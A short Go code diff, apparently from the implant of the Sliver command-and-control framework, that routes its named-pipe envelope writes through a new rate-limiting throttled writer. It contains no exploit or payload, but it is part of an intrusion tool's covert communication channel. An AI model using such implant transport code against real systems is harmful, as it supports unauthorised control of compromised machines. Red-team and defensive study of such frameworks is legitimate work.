@@ -59,9 +59,10 @@ func namedPipeWriteEnvelope(conn *net.Conn, envelope *sliverpb.Envelope) error {
 		// {{end}}
 		return err
 	}
+	writer := &throttledWriter{writer: *conn, limiters: envelopeLimiters(envelope)}
 	dataLengthBuf := new(bytes.Buffer)
 	binary.Write(dataLengthBuf, binary.LittleEndian, uint32(len(data)))
-	_, err = (*conn).Write(dataLengthBuf.Bytes())
+	_, err = writer.Write(dataLengthBuf.Bytes())
 	if err != nil {
 		// {{if .Debug}}
 		log.Printf("[namedpipe] Error %v and %d\n", err, dataLengthBuf)
@@ -69,7 +70,7 @@ func namedPipeWriteEnvelope(conn *net.Conn, envelope *sliverpb.Envelope) error {
 	}
 	totalWritten := 0
 	for totalWritten < len(data)-writeBufSizeNamedPipe {
-		n, err2 := (*conn).Write(data[totalWritten : totalWritten+writeBufSizeNamedPipe])
+		n, err2 := writer.Write(data[totalWritten : totalWritten+writeBufSizeNamedPipe])
 		totalWritten += n
 		if err2 != nil {
 			// {{if .Debug}}
@@ -79,7 +80,7 @@ func namedPipeWriteEnvelope(conn *net.Conn, envelope *sliverpb.Envelope) error {
 	}
 	if totalWritten < len(data) {
 		missing := len(data) - totalWritten
-		_, err := (*conn).Write(data[totalWritten : totalWritten+missing])
+		_, err := writer.Write(data[totalWritten : totalWritten+missing])
 		if err != nil {
 			// {{if .Debug}}
 			log.Printf("[namedpipe] Error %v\n", err)